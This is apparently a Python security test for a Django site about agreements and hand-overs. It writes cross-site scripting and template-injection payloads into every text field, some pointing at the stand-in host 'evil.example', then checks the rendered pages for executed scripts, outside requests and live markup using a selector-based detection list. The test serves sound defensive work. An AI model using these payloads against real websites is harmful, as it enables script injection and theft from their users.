"""A world in which every field that takes words holds markup, and the walk that looks whether any of it came alive."""

from dataclasses import dataclass, field
from itertools import count

from cycle.models import HandOver
from involvement.models import Agreement, Readiness
from people.models import Group, Organisation, Person

from . import build
from . import world as worlds
from .addresses import Address, all_addresses, reverse
from .walking import TWO_KINDS, Walk

ELSEWHERE = "evil.example"
AGREED = "review"  # a stage that the world leaves alone
BREAK_OUT = "\"'></textarea></title>"
LIVE = (
    f"<script src=//{ELSEWHERE}/s></script>",
    f"<img src=//{ELSEWHERE}/i onerror=alert(1)>",
    "<svg onload=alert(2)>",
    "<a href=javascript:alert(3)>a</a>",
    "javascript:alert(4)",
    f"</style><style>*{{background:url(//{ELSEWHERE}/c)}}",
    f"<p style=background:url(//{ELSEWHERE}/p)>",
    f"<iframe src=//{ELSEWHERE}/f></iframe>",
    f"<base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/l>",
    f"<meta http-equiv=refresh content='0;//{ELSEWHERE}/m'>",
    "<input autofocus onfocus=alert(5)>",
    "<script>alert(6)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}<!--",
)
# What must not be on a page of ours, wherever it came from.
ALIVE = ", ".join(
    ["script:not([src])", "iframe", "base", "object", "embed", "style", "[style]:not(svg [style])"]
    + [f"[on{event}]" for event in ("error", "load", "focus", "mouseover", "click")]
    + [f"[{name}^='javascript:' i]" for name in ("href", "src", "action", "formaction")]
    + [f"[{name}*='{ELSEWHERE}']" for name in ("href", "src", "action", "style")]
    + ["meta[http-equiv]"]
)


@dataclass
class HostileWorld(worlds.World):
    """The world of all nets, with live markup in the place of each canary. numbers: makes every text another one."""

    numbers: count = field(default_factory=count)

    def text(self):
        """Markup that breaks out of what is around it, at most eighty characters long."""
        number = next(self.numbers)
        return f"{number}{BREAK_OUT}{LIVE[number % len(LIVE)]}"

    def canary(self, what, readers, open_at=()):
        return self.text()


def make():
    """The hostile world, and the addresses of its pages."""
    world = HostileWorld(build.cast())
    _names(world)
    worlds.make(world)
    for slug in worlds.KINDS:
        stage = world.cast.stage(slug)
        said = worlds.words_for(world, stage.kind.record, "", set())
        world.records[slug, "public"] = build.record(stage, **said)
    return world, [*all_addresses(world), *_agreed(world)]


def _names(world):
    """What people, groups, bodies and the cycle are called, before anything is written down about them."""
    cast = world.cast
    for model, names in ((Person, ["name"]), (Group, ["name", "constituency"]), (Organisation, ["name"])):
        for one in model.objects.all():
            model.objects.filter(pk=one.pk).update(**{name: world.text() for name in names})
    names = ("title", "summary", "sector", "for_whom", "horizon")
    type(cast.cycle).objects.filter(pk=cast.cycle.pk).update(**{name: world.text() for name in names})
    for one in cast.cycle.participants.all():
        type(one).objects.filter(pk=one.pk).update(name=world.text())
    for one in vars(cast).values():
        one.refresh_from_db()
    cast.afresh()


def _agreed(world):
    """The addresses of an agreement whose every word is hostile, signed with hostile reservations."""
    cast, stage = world.cast, world.cast.stage(AGREED)
    build.begin(stage, reason=world.text())
    questions = {name: "no" for name in Readiness.QUESTIONS}
    words = {name: world.text() for name in Readiness.SAID if name not in questions}
    build.readiness(stage, **questions | words)
    given = build.handover(stage, **{name: world.text() for name in HandOver.TEXT_FIELDS})
    given.receive(given.given_to, world.text())
    agreement = build.draft(stage, **{name: world.text() for name in build.WORDS})
    terms = ("role", "may", "may_not", "speaks_for", "how_it_knows", "support", "payment")
    agreement.name_party(cast.ann, cast.users, level="influence", **{name: world.text() for name in terms})
    agreement.propose(cast.ann)
    build.signed(agreement, "reserve", world.text())
    version = Agreement.objects.get(pk=agreement.pk)
    for name, args in {
        "stage": [], "stage_history": [], "stage_report": [], "agreement_version": [1, version.version],
        "readiness": [], "handover": [given.pk],
    }.items():  # fmt: skip
        yield Address(name, "hostile", reverse(name, args=[cast.cycle.slug, AGREED, *args]))


class HostileWalk(Walk):
    """A walk that looks for scripts that ran, for requests that left the site, and for markup that came alive."""

    def __post_init__(self):
        super().__post_init__()
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.site = ""

    def _dialog(self, dialog):
        self.complaints.append(f"a script ran: {dialog.message}")
        dialog.dismiss()

    def _request(self, request):
        self.site = self.site or "/".join(request.url.split("/")[:3])
        if not request.url.startswith((f"{self.site}/", "data:image/")):
            self.complaints.append(f"asked for {request.url}")

    def is_new(self, address, status, html):
        """Words are what matters here, so every page is looked at; of refusals one of each sort, of records some."""
        key = _sameness(address, self.name) if status == 200 else status
        is_new = key not in self.looked
        self.looked.add(key)
        return is_new

    def found(self):
        """What came alive on this page."""
        alive = self.page.locator(ALIVE).evaluate_all("found => found.map(one => one.outerHTML.slice(0, 200))")
        found = [f"alive: {each}" for each in alive] + [f"console: {each}" for each in self.complaints]
        self.complaints.clear()
        return found


def _sameness(address, name):
    """What two addresses share that need not both be visited by this reader."""
    slug, _, openness = address.situation.partition(" ")
    if not address.name.startswith("record"):
        return address
    if slug in TWO_KINDS and name != "nobody":
        return address
    every_kind = name == "ann" and address.name != "record_edit" and openness in ("", "public")
    return (address.name, slug if every_kind else "", openness if address.name == "record" else "")
